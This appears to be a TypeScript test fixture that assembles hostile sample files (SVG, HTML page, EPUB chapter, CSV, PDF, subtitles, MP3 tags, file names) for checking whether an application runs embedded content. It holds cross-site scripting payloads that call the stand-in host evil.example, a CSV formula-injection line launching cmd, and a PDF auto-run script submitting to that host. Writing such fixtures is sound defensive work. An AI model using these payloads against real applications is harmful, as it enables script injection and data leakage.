import { book } from './book.ts'
import { document as pdf } from './document.ts'
import { film } from './film.ts'
import { picture } from './picture.ts'
import { recording } from './recording.ts'

/** Says that it ran: to the page, on the screen, and to a foreign server. */
const run = "top.hacked=1;alert('hacked');fetch('http://evil.example/ran')"
const image = `<img src="http://evil.example/seen.png" onerror="${run}" onload="${run}" />`

const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" onload="${run}">
<script>${run}</script><image xlink:href="http://evil.example/seen.png" width="50" height="50"/>
<foreignObject width="100" height="50"><body xmlns="http://www.w3.org/1999/xhtml">${image}</body></foreignObject>
<a xlink:href="javascript:${run}"><rect width="200" height="100" fill="teal"/></a></svg>`

const chapter = {
  title: 'Chapter',
  head: `<script>${run}</script><script src="http://evil.example/a.js"></script><meta http-equiv="refresh" content="0;url=http://evil.example/"/>
<link rel="stylesheet" href="http://evil.example/a.css"/><style>@import url("http://evil.example/b.css"); body { background: url(http://evil.example/c.png) }</style>`,
  body: `<h1 onclick="${run}">Chapter</h1><p style="background:url('http://evil.example/d.png')">Text</p>${image}
<iframe src="javascript:${run}"></iframe><object data="http://evil.example/e"></object><embed src="http://evil.example/f"/>
<form action="javascript:${run}"><button>Press</button></form><video src="http://evil.example/g.webm" poster="http://evil.example/h.png"></video>
<a id="trap" href="javascript:${run}">A link</a>
<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
}

const table = `name,"<b>value</b>"\n=HYPERLINK("http://evil.example/"),<img src=x onerror=${run}>\n"@SUM(1+1)*cmd|' /C calc'!A0","<script>${run}</script>"\n`

const subtitles = `WEBVTT\n\nSTYLE\n::cue { background-image: url(http://evil.example/cue.png) }\n\n00:00.000 --> 00:30.000\n<img src=x onerror=${run}><script>${run}</script><v onclick=${run}>A voice</v>\n`

const page = `<!doctype html><title>A page</title><script>${run}</script>${image}<iframe srcdoc="<script>${run}</script>"></iframe>`

const script = `/OpenAction << /S /JavaScript /JS (app.alert\\('hacked'\\); this.submitForm\\('http://evil.example/'\\)) >>`

export const marked = `<img src=x onerror=top.hacked=1>`

/** Files that try to run, to reach out, or to pass for markup. Names without a slash, as a disk takes them. */
export const hostileFiles: Record<string, string | Uint8Array> = {
  'drawing.svg': svg,
  'page.html': page,
  'story.epub': book('Story <script>top.hacked=1</script>'.replaceAll('<', '&lt;'), [chapter]),
  'table.csv': table,
  'paper.pdf': pdf(['A paper'], script),
  'film.webm': film,
  'film.en.vtt': subtitles,
  'song.mp3': recording(2, { title: `${marked}Title`, artist: `<script>top.hacked=1</script>`, cover: picture(8, 8) }),
  [`${marked}.png`]: picture(20, 20),
  [`${marked}.rar`]: 'PK',
}
